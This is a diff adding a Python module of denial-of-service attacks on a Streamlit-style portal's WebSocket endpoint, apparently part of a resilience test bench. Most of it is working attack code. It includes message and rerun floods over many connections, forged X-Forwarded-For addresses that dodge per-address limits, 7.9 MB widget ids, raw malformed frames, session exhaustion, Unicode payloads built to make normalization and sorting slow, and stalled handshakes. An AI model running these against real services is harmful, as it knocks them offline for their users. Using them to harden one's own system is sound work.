@@ -1,0 +1,163 @@
+"""Attacks on the WebSocket of a portal; each runs until it is killed or refused."""
+
+import time
+from contextlib import suppress
+
+from websockets.exceptions import WebSocketException
+from websockets.sync.client import ClientConnection, connect
+from websockets.typing import Origin, Subprotocol
+
+from bench.target import ATTACKER, Target
+from web.streamlit_compat import BackMsg
+
+
+def _session(target: Target, address: str = ATTACKER) -> ClientConnection:
+    return connect(
+        f"ws://{target.host}/_stcore/stream",
+        subprotocols=[Subprotocol("streamlit")],
+        origin=Origin(target.url),
+        sock=target.connect(address),
+        additional_headers={"X-Forwarded-For": address},
+        max_size=None,
+        open_timeout=60,
+        ping_interval=None,
+        close_timeout=0.1,
+    )
+
+
+def _message(**fields: object) -> bytes:
+    message = BackMsg()
+    for name, value in fields.items():
+        setattr(message, name, value)
+    return bytes(message.SerializeToString())
+
+
+def _rerun(**fields: object) -> bytes:
+    message = BackMsg()
+    message.rerun_script.SetInParent()
+    for name, value in fields.items():
+        setattr(message.rerun_script, name, value)
+    return bytes(message.SerializeToString())
+
+
+def git_info(target: Target) -> None:
+    """Ask for information on the repository 1,000 times, 8 bytes each."""
+    with _session(target) as connection:
+        for _ in range(1000):
+            connection.send(_message(load_git_info=True))
+        time.sleep(5)
+
+
+def trickle(target: Target) -> None:
+    """Ask for information on the repository, 469 bytes a second."""
+    with _session(target) as connection:
+        while True:
+            connection.send(_message(load_git_info=True))
+            time.sleep(8 / 469)
+
+
+def empty_runs(target: Target) -> None:
+    """Ask for 5,000 reruns of the page."""
+    with _session(target) as connection:
+        for _ in range(5000):
+            connection.send(_rerun())
+        time.sleep(5)
+
+
+def many_runs(target: Target) -> None:
+    """Ask for 270 reruns a second on each of 20 connections."""
+    connections = [_session(target) for _ in range(20)]
+    while True:
+        for connection in connections:
+            connection.send(_rerun())
+        time.sleep(1 / 270)
+
+
+def four_addresses(target: Target) -> None:
+    """Rerun the page as often as allowed, in one tab at each of four addresses."""
+    connections = [_session(target, f"203.0.113.{number}") for number in range(101, 105)]
+    while True:
+        for connection in connections:
+            connection.send(_rerun())
+        time.sleep(1 / 20)
+
+
+def big_messages(target: Target) -> None:
+    """Send widgets that do not exist, with ids of 7.9 MB."""
+    with _session(target) as connection:
+        while True:
+            message = BackMsg()
+            widget = message.rerun_script.widget_states.widgets.add()
+            widget.id, widget.trigger_value = "x" * 7_900_000, True
+            connection.send(message.SerializeToString())
+            time.sleep(0.1)
+
+
+def tiny_frames(target: Target) -> None:
+    """Send frames of two bytes, as many as a connection accepts, then open another one."""
+    with _session(target) as connection:
+        connection.socket.settimeout(1)
+        connection.socket.sendall(b"\x82\x82\0\0\0\0\x38\x01" * 100_000)
+
+
+def sessions(target: Target) -> None:
+    """Open as many sessions as one address may have."""
+    connections = []
+    with suppress(OSError, WebSocketException):
+        for _ in range(199):
+            connections.append(_session(target))
+            connections[-1].send(_rerun())
+    while True:
+        for connection in connections:
+            connection.send(_rerun())
+            time.sleep(0.02)
+
+
+def many_parts(target: Target) -> None:
+    """Send messages below every size limit, with as many widget values as fit."""
+    connections = [_session(target) for _ in range(4)]
+    message = BackMsg()
+    for _ in range(120_000):
+        message.rerun_script.widget_states.widgets.add()
+    data = message.SerializeToString()
+    while True:
+        for connection in connections:
+            connection.send(data)
+        time.sleep(0.1)
+
+
+def marks(target: Target) -> None:
+    """Open links with combining marks that take quadratic time to sort."""
+    with _session(target) as connection:
+        text = "a" + "\u0301" * 16_000 + "\u0316" * 16_000
+        while True:
+            connection.send(_rerun(query_string=f"description={text}"))
+            time.sleep(0.2)
+
+
+def joiners(target: Target) -> None:
+    """Open links with the texts that take longest to normalize, in 40 tabs."""
+    text = ("\u0ba8\u0bcd\ufdfa\u0915\u094d\u200d\u0130" * 1500)[:10_000]
+    connections = [_session(target) for _ in range(40)]
+    while True:
+        for number, connection in enumerate(connections):
+            # Another one each time: the same is not cleaned again.
+            connection.send(_rerun(query_string=f"description={number}{time.time()}{text}"))
+        time.sleep(0.05)
+
+
+def hung_handshakes(target: Target) -> None:
+    """Send WebSocket handshakes that websockets refuses after uvicorn accepts them."""
+    request = (
+        f"GET /_stcore/stream HTTP/1.1\r\nHost: {target.host}\r\n"
+        f"X-Forwarded-For: {ATTACKER}\r\n"
+        "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
+        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nContent-Length: 5\r\n\r\n"
+    ).encode()
+    held = []
+    while True:
+        held.append(target.connect(ATTACKER))
+        held[-1].sendall(request)
+        if len(held) > 5_000:
+            held.pop(0).close()
+        time.sleep(0.02)
